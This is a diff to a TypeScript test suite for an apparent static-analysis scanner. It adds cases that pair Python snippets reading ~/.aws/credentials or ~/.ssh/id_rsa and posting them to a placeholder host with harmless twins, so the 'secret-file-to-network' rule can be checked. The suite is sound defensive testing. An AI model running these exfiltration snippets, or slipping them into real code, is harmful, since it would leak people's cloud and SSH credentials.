@@ -110,12 +110,41 @@ const SHELLS: readonly Plain[] = [
   },
 ];
 
+const SENDS = "requests.post('https://collect.example.invalid/in', data=";
+
+const WAYS: readonly Plain[] = [
+  {
+    name: 'a path of one system, and none of the others',
+    rule: 'secret-file-to-network',
+    attack: `import os, requests, sys\nif sys.platform == 'linux':\n    path = os.path.expanduser('~/.aws/credentials')\nelse:\n    path = None\nif path:\n    ${SENDS}open(path).read())`,
+    honest: `import os, requests, sys\nif sys.platform == 'linux':\n    path = os.path.expanduser('~/notes/today.txt')\nelse:\n    path = None\nif path:\n    ${SENDS}open(path).read())`,
+  },
+  {
+    name: 'a path of one case',
+    rule: 'secret-file-to-network',
+    attack: `import os, requests, sys\nmatch sys.platform:\n    case 'linux':\n        path = os.path.expanduser('~/.ssh/id_rsa')\n    case _:\n        path = ''\n${SENDS}open(path).read())`,
+    honest: `import os, requests, sys\nmatch sys.platform:\n    case 'linux':\n        path = os.path.expanduser('~/notes/today.txt')\n    case _:\n        path = ''\n${SENDS}open(path).read())`,
+  },
+  {
+    name: 'a function that gives several',
+    rule: 'secret-file-to-network',
+    attack: `import os, requests\ndef load():\n    return 3, open(os.path.expanduser('~/.aws/credentials')).read()\ncount, text = load()\n${SENDS}text)`,
+    honest: `import os, requests\ndef load():\n    return 3, open(os.path.expanduser('~/.aws/credentials')).read()\ncount, text = load()\n${SENDS}count)`,
+  },
+  {
+    name: 'the default of an option',
+    rule: 'secret-file-to-network',
+    attack: `import argparse, os, requests\nparser = argparse.ArgumentParser()\nparser.add_argument('--source', default=os.path.expanduser('~/.aws/credentials'))\nargs = parser.parse_args()\nwith open(args.source) as file:\n    ${SENDS}file.read())`,
+    honest: `import argparse, os, requests\nparser = argparse.ArgumentParser()\nparser.add_argument('--source', default=os.path.expanduser('~/notes/today.txt'))\nargs = parser.parse_args()\nwith open(args.source) as file:\n    ${SENDS}file.read())`,
+  },
+];
+
 async function rulesOf(text: string): Promise<readonly string[]> {
   const { findings } = await staticStage.run(targetOf({ 'run.py': `${text}\n` }), STAGE_CONTEXT);
   return findings.map(({ ruleId }) => ruleId);
 }
 
-describe.each(Object.entries({ deletions: DELETIONS, rights: RIGHTS, shells: SHELLS }))(
+describe.each(Object.entries({ deletions: DELETIONS, rights: RIGHTS, shells: SHELLS, ways: WAYS }))(
   'plain %s',
   (_, cases) => {
     it.each(cases)('$name: found, and its harmless twin is not', async ({ rule, attack, honest }) => {
